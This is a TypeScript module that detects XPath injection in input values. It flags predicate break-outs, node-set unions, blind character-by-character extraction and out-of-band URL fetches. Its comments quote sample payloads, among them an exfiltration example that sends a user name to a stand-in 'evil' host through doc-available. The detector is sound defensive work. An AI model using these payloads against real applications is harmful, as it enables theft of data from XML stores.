import { SCORE, type Detector, type Finding } from '../../finding.ts';
import { CH_PIPE, CH_QUOTE } from '../../value-chars.ts';

/**
 * XPath injection: a value that leaves the string literal an application put it in (`//user[name='VALUE']`) and
 * goes on as XPath. Its boolean forms (`' or '1'='1`, `' or count(/*)=1 or '`, `' or true() or '`) read as SQL
 * too and are the SQL detector's; what only XPath has:
 * - a node-set union after the quote (`'] | //*`, `' | //password | '`): every node of the document, or the
 *   secret ones, joined to the application's result (paranoia 1);
 * - a step out of the predicate after the quote (`x']/../*`, `x']//*`): the siblings and parents of the node the
 *   application meant (paranoia 1);
 * - after the quote and `or`/`and`, an XPath function reading a node by an absolute path
 *   (`' or substring(//user[1]/password,1,1)='a`, `' and string-length(name(/*[1]))=4 and '1'='1`): blind
 *   extraction, a character at a time (paranoia 1).
 * A quote, a bar and a slash in prose (`it's | /home`) is no union: the union needs `//`, `/*`, `/@` or `/..` after
 * the bar, and the bar must be alone (`||` is an operator of many languages).
 */

/** XPath 1.0 functions a blind extraction reads a node with. */
const FUNCTIONS = ['substring', 'string-length', 'name', 'local-name', 'count', 'contains', 'starts-with', 'string',
  'normalize-space', 'translate', 'concat', 'boolean', 'number', 'sum', 'namespace-uri'];

function isSpace(c: number): boolean {
  return c === 32 || c === 9 || c === 10 || c === 13;
}

/** At `i` (a `/`): a step that walks the document (`//`, `/*`, `/@`, `/..`). */
function walkingStep(v: string, i: number): boolean {
  if (v.charCodeAt(i) !== 47) return false;
  const c = v.charCodeAt(i + 1);
  return c === 47 || c === 42 || c === 64 || (c === 46 && v.charCodeAt(i + 2) === 46);
}

function isQuote(c: number): boolean {
  return c === 39 || c === 34;
}

/** After the quote at `q`: a union or a step out of the predicate; the index of the finding, or -1. */
function breakOut(v: string, q: number): { rule: string; message: string } | undefined {
  let i = q + 1;
  let closed = 0;
  while (i < v.length && closed < 4 && (v.charCodeAt(i) === 93 || v.charCodeAt(i) === 41)) { i++; closed++; }
  // `x']/../*`: out of the predicate and on to another step
  if (closed > 0 && v.charCodeAt(i - closed) === 93 && walkingStep(v, i)) {
    return { rule: 'xpathi-step-out', message: 'XPath predicate closed and a step out of it' };
  }
  while (i < v.length && i - q < 16 && isSpace(v.charCodeAt(i))) i++;
  if (v.charCodeAt(i) !== 124 || v.charCodeAt(i + 1) === 124 || v.charCodeAt(i - 1) === 124) return undefined;
  i++;
  while (i < v.length && i - q < 24 && isSpace(v.charCodeAt(i))) i++;
  if (walkingStep(v, i)) return { rule: 'xpathi-union', message: 'XPath string closed and a node-set union added' };
  return undefined;
}

/** `]`, blanks, a lone `|`, blanks and a step that walks the document; where the `]` starts, or -1. */
function predicateUnion(v: string): number {
  for (let from = 0, guard = 0; guard < 16; guard++) {
    const at = v.indexOf(']', from);
    if (at < 0) return -1;
    from = at + 1;
    if (v.charCodeAt(at - 1) === 93) continue; // `]]`: a wiki link's end
    // a condition closed by the `]` (`1=1]`, `x or y]`), not a footnote mark (`see [1] | //note`)
    const before = v.slice(Math.max(0, at - 24), at).toLowerCase();
    if (!before.includes('=') && !before.includes(' or ') && !before.includes(' and ')) continue;
    let i = at + 1;
    while (i < v.length && i - at < 8 && isSpace(v.charCodeAt(i))) i++;
    if (v.charCodeAt(i) !== 124 || v.charCodeAt(i + 1) === 124) continue;
    i++;
    while (i < v.length && i - at < 16 && isSpace(v.charCodeAt(i))) i++;
    if (walkingStep(v, i)) return at;
  }
  return -1;
}

/**
 * After a closed string and `or`/`and`, a path from the root (`' or //user[name='admin']/password/text()='a`):
 * read from each quote (at most 64) that `or` or `and` follows; where the path starts, or -1.
 */
function blindPath(v: string, quotes: readonly number[]): number {
  for (const q of quotes) {
    let i = q + 1;
    while (i < v.length && i - q < 8 && (isSpace(v.charCodeAt(i)) || v.charCodeAt(i) === 41)) i++;
    const word = wordAt(v, i);
    if (word === 0) continue;
    i += word;
    if (!isSpace(v.charCodeAt(i))) continue;
    while (i < v.length && isSpace(v.charCodeAt(i))) i++;
    if (v.charCodeAt(i) !== 47) continue;
    const at = i;
    i = v.charCodeAt(i + 1) === 47 ? i + 2 : i + 1;
    const name = i;
    while (i < v.length && i - name < 64 && isNameChar(v.charCodeAt(i) | 32)) i++;
    if (i > name && (v.charCodeAt(i) === 91 || v.charCodeAt(i) === 47)) return at;
  }
  return -1;
}

/** XPath 2.0's functions that fetch a URL (`doc-available(concat('http://evil/', //user[1]/name))`), after a closed string. */
function urlFunction(lower: string): number {
  for (const name of ['doc-available(', 'doc(', 'unparsed-text(', 'unparsed-text-available(']) {
    const at = lower.indexOf(name);
    if (at < 0 || (at > 0 && isNameChar(lower.charCodeAt(at - 1)))) continue;
    if (leftQuoteBefore(lower, Math.max(0, at - 200), at)) return at;
  }
  return -1;
}

/** `or` or `and` (any case) at `i`: its length, or 0. */
function wordAt(v: string, i: number): number {
  const a = v.charCodeAt(i) | 32;
  const b = v.charCodeAt(i + 1) | 32;
  if (a === 111 && b === 114) return 2; // or
  if (a === 97 && b === 110 && (v.charCodeAt(i + 2) | 32) === 100) return 3; // and
  return 0;
}

/** A quote followed by `or`/`and`, and an XPath function reading an absolute path (`substring(//user`). */
function blindFunction(v: string): number {
  let from = 0;
  for (let guard = 0; guard < 8; guard++) {
    const open = v.indexOf('(/', from);
    if (open < 0) return -1;
    from = open + 2;
    let s = open;
    while (s > 0 && s > open - 20 && isNameChar(v.charCodeAt(s - 1) | 32)) s--;
    if (!FUNCTIONS.includes(v.slice(s, open).toLowerCase())) continue;
    const window = Math.max(0, s - 200);
    if (leftQuoteBefore(v.slice(window, s).toLowerCase(), 0, s - window)) return s;
  }
  return -1;
}

/** In lower[from, to): a quote, blanks, an optional `)`, blanks, then `or` or `and` and a blank. */
function leftQuoteBefore(lower: string, from: number, to: number): boolean {
  for (let q = from; q < to; q++) {
    if (!isQuote(lower.charCodeAt(q))) continue;
    let i = q + 1;
    while (i < to && isSpace(lower.charCodeAt(i))) i++;
    if (lower.charCodeAt(i) === 41) i++;
    while (i < to && isSpace(lower.charCodeAt(i))) i++;
    const word = lower.startsWith('or', i) ? 2 : lower.startsWith('and', i) ? 3 : 0;
    if (word > 0 && isSpace(lower.charCodeAt(i + word))) return true;
  }
  return false;
}

function isNameChar(c: number): boolean {
  return (c >= 97 && c <= 122) || c === 45;
}

export const xpathiDetector: Detector = {
  category: 'xpathi',
  needs: CH_QUOTE | CH_PIPE,
  detect(value: string, _context, report: (finding: Finding) => void): void {
    if (value.length < 4) return;
    const v = value;
    if (!v.includes('/')) return;
    // the quotes of the value (at most 64), found with native searches
    const quotes: number[] = [];
    let single = v.indexOf("'");
    let double = v.indexOf('"');
    while (quotes.length < 64 && (single >= 0 || double >= 0)) {
      if (double < 0 || (single >= 0 && single < double)) { quotes.push(single); single = v.indexOf("'", single + 1); }
      else { quotes.push(double); double = v.indexOf('"', double + 1); }
    }
    if (quotes.length > 0 && (v.includes('|') || v.includes(']'))) {
      for (const q of quotes) {
        const hit = breakOut(v, q);
        if (hit) {
          report({ ruleId: hit.rule, category: 'xpathi', paranoia: 1, score: SCORE.critical, message: hit.message, matched: v.slice(q, q + 40) });
          return;
        }
      }
    }
    // `1 or 1=1]|//*`: out of a numeric predicate and a union, no quote needed
    const union = v.includes('|') ? predicateUnion(v) : -1;
    if (union >= 0) {
      report({ ruleId: 'xpathi-union', category: 'xpathi', paranoia: 1, score: SCORE.critical, message: 'XPath predicate closed and a node-set union added', matched: v.slice(Math.max(0, union - 10), union + 30) });
      return;
    }
    if (quotes.length === 0) return;
    const path = blindPath(v, quotes);
    if (path >= 0) {
      report({ ruleId: 'xpathi-blind-function', category: 'xpathi', paranoia: 1, score: SCORE.critical, message: 'XPath string closed and the document read by an absolute path', matched: v.slice(Math.max(0, path - 10), path + 40) });
      return;
    }
    const url = v.length <= 8192 && (v.includes('doc') || v.includes('DOC') || v.includes('unparsed')) ? urlFunction(v.toLowerCase()) : -1;
    if (url >= 0) {
      report({ ruleId: 'xpathi-blind-function', category: 'xpathi', paranoia: 1, score: SCORE.critical, message: 'XPath string closed and a function fetching a URL (out-of-band)', matched: v.slice(Math.max(0, url - 10), url + 40) });
      return;
    }
    const at = v.includes('(/') ? blindFunction(v) : -1;
    if (at >= 0) {
      report({ ruleId: 'xpathi-blind-function', category: 'xpathi', paranoia: 1, score: SCORE.critical, message: 'XPath string closed and a function reading the document by an absolute path', matched: v.slice(Math.max(0, at - 10), at + 40) });
    }
  },
};
